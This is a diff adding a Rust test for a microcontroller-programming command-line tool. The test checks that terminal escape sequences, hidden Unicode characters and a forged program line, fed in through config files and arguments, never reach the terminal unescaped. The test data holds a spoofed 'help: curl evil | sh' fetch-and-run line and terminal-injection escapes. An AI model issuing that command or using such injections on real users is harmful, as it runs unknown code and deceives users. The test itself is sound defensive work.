@@ -196,6 +196,74 @@ fn ports_are_described_without_opening_them() {
     assert!(rules.stdout().starts_with("# Bus Pirates, by the serial numbers"), "{}", rules.stdout());
 }
 
+/// A clearing of the screen, a change of the direction of writing, a hidden character, and a line that
+/// claims to be the program's.
+const HOSTILE: &str = "x\u{1b}[2J\u{202e}\u{200b}\u{9b}1m\rerror: y\nhelp: curl evil | sh";
+
+/// Is there anything in it that a terminal obeys or hides, or a line that the program did not write?
+fn is_harmless(text: &str) -> bool {
+    let obeys = |letter: char| letter != '\n' && letter.is_control();
+    let hides = |letter: char| matches!(letter, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+    !text.contains(obeys) && !text.contains(hides) && !text.contains("\nhelp: curl")
+}
+
+#[test]
+fn nothing_from_outside_reaches_the_terminal_raw() {
+    let folder = Folder::new();
+    let toml: String = HOSTILE.chars().map(|letter| format!("\\U{:08x}", u32::from(letter))).collect();
+    folder.write("key.toml", format!("[board]\n\"{toml}\" = 1\n"));
+    folder.write("name.toml", format!("[board]\nport = \"sim\"\n[slot.\"{toml}\"]\npart = \"m8\"\n"));
+    folder.write("part.toml", format!("[board]\nport = \"sim\"\n[slot.a]\npart = \"{toml}\"\n"));
+    folder.write(
+        "file.toml",
+        format!("[board]\nport = \"sim\"\n[slot.a]\npart = \"m8\"\nflash = \"{toml}\"\n"),
+    );
+    folder.write("syntax.toml", format!("[board]\nport = {HOSTILE}\n"));
+    let read = format!("flash:w:{HOSTILE}");
+    let memory = format!("{HOSTILE}:w:x");
+    let option = format!("--{HOSTILE}");
+    let usb = format!("usb:0403:6001:{HOSTILE}");
+    let fuse = format!("{HOSTILE}=1");
+    let line = format!("{HOSTILE}@cs");
+    let commands: &[&[&str]] = &[
+        &["-P", HOSTILE, "-p", "m8"],
+        &["-P", &usb, "-p", "m8"],
+        &["-P", "sim", "-p", HOSTILE],
+        &["-P", "sim", "-p", "m8", "-U", &read],
+        &["-P", "sim", "-p", "m8", "-U", &memory],
+        &["-P", "sim", "-p", "m8", "-x", HOSTILE],
+        &["-P", "sim", "-p", "m8", "-c", HOSTILE],
+        &["-P", "sim", "-p", "m8", "--decoder", HOSTILE],
+        &["-P", "sim", &option],
+        &[HOSTILE],
+        &["ports", HOSTILE],
+        &["parts", HOSTILE],
+        &["bench", "-P", HOSTILE],
+        &["fuses", "set", "-P", "sim", "-p", "m8", &fuse],
+        &["fuses", "decode", "-p", "m8", &fuse],
+        &["sim", "--chip", &line],
+        &["sim", "--fault", HOSTILE],
+        &["sim", "--link", HOSTILE, "--dump", "/dev/null/x"],
+        &["gang", HOSTILE],
+        &["gang", "key.toml"],
+        &["gang", "name.toml"],
+        &["gang", "part.toml"],
+        &["gang", "file.toml"],
+        &["gang", "syntax.toml"],
+    ];
+    for args in commands {
+        let run = Run::from(folder.command("").args(*args).output().unwrap());
+        let said = format!("{}{}", run.stdout(), run.stderr);
+        assert!(is_harmless(&said), "{args:?}: {said:?}");
+        assert!(said.len() > 10, "{args:?}");
+    }
+    // What is too long is cut, and the reason stays.
+    let long = format!("flash:w:{}", "long".repeat(20_000));
+    let run = Run::from(folder.command("-P sim -p m8 -U").arg(long).output().unwrap());
+    assert!(run.stderr.len() < 4000, "{}", run.stderr.len());
+    assert!(run.stderr.contains('…') && run.stderr.contains("too long"), "{}", run.stderr);
+}
+
 #[test]
 fn a_usb_device_that_is_not_there() {
     let run = fail("usb:ffff:fffe:NOSUCH");
